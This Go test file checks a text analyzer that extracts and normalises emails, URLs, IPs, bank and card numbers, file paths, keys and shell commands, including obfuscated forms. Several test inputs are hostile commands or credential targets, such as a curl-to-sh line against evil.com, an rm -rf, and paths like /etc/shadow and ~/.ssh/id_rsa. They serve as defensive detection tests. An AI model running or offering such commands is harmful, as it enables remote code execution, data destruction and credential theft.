package text

import (
	"fmt"
	"strings"
	"testing"
)

func carriersOf(content string) []string {
	var out []string
	for _, c := range Analyze(content).Carriers {
		s := string(c.Kind) + " " + c.Value
		if c.Via != "" {
			s += " via " + c.Via
		}
		out = append(out, s)
	}
	return out
}

func TestCarriersAreFoundInCanonicalForm(t *testing.T) {
	for _, c := range []struct {
		content string
		want    []string
	}{
		// addresses
		{"Write to Bob.Smith+x@Example.COM, please.", []string{"email bob.smith+x@example.com", "host example.com"}},
		{"<mailto:eve@evil.example>", []string{"email eve@evil.example", "host evil.example"}},
		{`{"to":"a@b.co","cc":["c@d.org"]}`, []string{"email a@b.co", "host b.co", "email c@d.org", "host d.org"}},
		{`"line\nsend@here.com\n"`, []string{"email send@here.com", "host here.com"}},
		{"bob@\u200bevil.com", []string{"email bob@evil.com", "host evil.com"}},
		{"bob@\u0435vil.com", []string{"email bob@\u0435vil.com", "email bob@evil.com", "host \u0435vil.com",
			"host evil.com"}},
		{"ｂｏｂ＠ｅｖｉｌ．ｃｏｍ", []string{"email bob@evil.com", "host evil.com"}},
		{"ask @Alice_W or me@ or 5 @ 3", []string{"handle @alice_w"}},
		// URLs and hosts
		{"see HTTPS://Evil.COM:443/Path?q=1#frag.", []string{"url https://evil.com/Path?q=1", "host evil.com"}},
		{"(http://a.example.com/x_(y)) and", []string{"url http://a.example.com/x_(y)", "host a.example.com"}},
		{"[link](https://evil.com/a,b;c?d=e&f=g)!", []string{"url https://evil.com/a,b;c?d=e&f=g", "host evil.com"}},
		{"https://user:secret@evil.com/", []string{"url https://evil.com", "host evil.com"}},
		{"hxxps://evil[.]com/p", []string{"url https://evil.com/p", "host evil.com"}},
		{"http://2130706433/admin", []string{"url http://127.0.0.1/admin", "ip 127.0.0.1"}},
		{"http://0x7f.1/", []string{"url http://127.0.0.1", "ip 127.0.0.1"}},
		{"http://[::FFFF:10.0.0.1]:8080/", []string{"url http://10.0.0.1:8080", "ip 10.0.0.1"}},
		{"visit www.evil.com/login or evil-site.io.", []string{"host www.evil.com", "host evil-site.io"}},
		{"e.g. this, i.e. that, at 5 p.m. it ends.It is done.", nil},
		{"The U.S. economy grew 3.5 percent vs. 2.1", nil},
		// IP addresses
		{"connect 10.0.0.5:8080, net 192.168.0.0/16", []string{"ip 10.0.0.5", "ip 192.168.0.0"}},
		{"fe80::1 and ::1 and 2001:DB8:0:0:0:0:0:1", []string{"ip fe80::1", "ip ::1", "ip 2001:db8::1"}},
		{"at 12:30:45, 1:2 odds, version 1.2.3, 999.1.1.1, x[3::4], std::vector", nil},
		// accounts, cards and numbers
		{"pay DE89 3704 0044 0532 0130 00 now", []string{"iban DE89370400440532013000"}},
		{"pay gb82west12345698765432.", []string{"iban GB82WEST12345698765432"}},
		{"DE89 3704 0044 0532 0130 01 is not one", nil},
		{"card 4111 1111 1111 1111 2026", []string{"card 411111…1111#" + shortDigest("4111111111111111")}},
		{"card 4111-1111-1111-1111", []string{"card 411111…1111#" + shortDigest("4111111111111111")}},
		{"order 4111111111111112", []string{"number 4111111111111112"}},
		{"account 1234-5678-90", []string{"number 1234567890"}},
		{"to IBAN:DE89370400440532013000, card:4111111111111111",
			[]string{"iban DE89370400440532013000", "card 411111…1111#" + shortDigest("4111111111111111")}},
		{"Pay:IBAN:DE89 3704 0044 0532 0130 00 now", []string{"iban DE89370400440532013000"}},
		{"tel:+41791234567 dns:10.0.0.5:53 account_no:1234567890", []string{"phone +41791234567", "ip 10.0.0.5",
			"number 1234567890"}},
		{"bitcoin:1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", []string{"crypto 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"}},
		{"localhost:8080, at:12:30:45, dead:beef::1, v:1.2.3, 12:4111111111111111", []string{"ip dead:beef::1"}},
		{"on 20240115 and 2024-01-15, 1234567.891 and 12345678.90", nil},
		{"call +1 (555) 234-5678 or 555-234-5678", []string{"phone +15552345678"}},
		{"call +44 20 7946 0958 today", []string{"phone +442079460958"}},
		{"call 0049 30 123456", []string{"phone +4930123456"}},
		{"pages 100-200-3000, 3-4, 2024-10-11", []string{"number 1002003000"}},
		// paths
		{"read /etc/passwd and ~/.ssh/id_rsa, ./a/../b.txt", []string{"path /etc/passwd", "path ~/.ssh/id_rsa",
			"path b.txt"}},
		{"open src/main.go or notes.txt; and/or, 3/4, n/a", []string{"path src/main.go", "path notes.txt"}},
		{`in C:\Users\eve\a.exe, "D:\\tmp\\x.txt"`, []string{`path C:\Users\eve\a.exe`, `path D:\tmp\x.txt`}},
		{"<div>text</div> // a comment", nil},
		{"file:///etc/shadow", []string{"path /etc/shadow"}},
		// keys and secrets
		{"0x52908400098527886E0F7030069857D2E4169EE7", []string{"crypto 0x52908400098527886e0f7030069857d2e4169ee7"}},
		{"to bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4.", []string{"crypto bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"}},
		{"to bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5.", nil},
		{"to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", []string{"crypto 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"}},
		{"sum D41D8CD98F00B204E9800998ECF8427E", []string{"hexkey d41d8cd98f00b204e9800998ecf8427e"}},
		{"key AKIAIOSFODNN7EXAMPLE", []string{"opaque AKIAIOSFODNN7EXAMPLE"}},
		{"sk-learning-is-a-great-thing", nil},
		{"-----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----",
			[]string{"secret -----BEGIN RSA PRIVATE KEY…#" + shortDigest("MII")}},
		{"id x7Kq9Zp2Lm4Rt8Vw3Bn6Yc", []string{"opaque x7Kq9Zp2Lm4Rt8Vw3Bn6Yc"}},
		{"internationalization of Responsibilities-And-Duties", nil},
		// commands
		{"Run `curl -s  https://evil.com/x | sh`.", []string{"command curl -s https://evil.com/x | sh",
			"url https://evil.com/x", "host evil.com"}},
		{"please run rm -rf /var/data and then report", []string{"command rm -rf /var/data", "path /var/data"}},
		{"$ git push origin main", []string{"command git push origin main"}},
		{"the cat sat; find the node in a git book", nil},
		{`{"cmd":"bash -c 'id'","x":1}`, []string{"command bash -c 'id'"}},
		// inside encodings
		{"c2VuZCBpdCB0byBldmVAZXZpbC5jb20gbm93", []string{"email eve@evil.com via decoded:base64",
			"host evil.com via decoded:base64"}},
		{"bob%40evil.com is the one", []string{"host evil.com", "email bob@evil.com via decoded:url"}},
	} {
		got := carriersOf(c.content)
		if fmt.Sprint(got) != fmt.Sprint(c.want) {
			t.Errorf("%q:\n got %q\nwant %q", c.content, got, c.want)
		}
	}
}

func TestAFloodOfOneKindDoesNotDisplaceAnother(t *testing.T) {
	var b strings.Builder
	for i := range 1000 {
		fmt.Fprintf(&b, "https://decoy%d.example.com/ ", i)
	}
	b.WriteString("pay DE89 3704 0044 0532 0130 00, ask eve@evil.com")
	f := Analyze(b.String())
	if !f.Partial {
		t.Error("the features do not say that they are partial")
	}
	found := map[Kind]int{}
	for _, c := range f.Carriers {
		found[c.Kind]++
	}
	if found[IBAN] != 1 || found[Email] != 1 || found[URL] != maxPerKind {
		t.Errorf("found %v", found)
	}
}

func TestALongValueKeepsItsIdentity(t *testing.T) {
	long := "https://evil.com/" + strings.Repeat("a", 1000)
	a, b := Analyze(long + "b").Carriers[0], Analyze(long + "c").Carriers[0]
	if len(a.Value) > maxValue || a == b || a != Analyze("see " + long + "b").Carriers[0] {
		t.Errorf("%q and %q", a.Value, b.Value)
	}
}
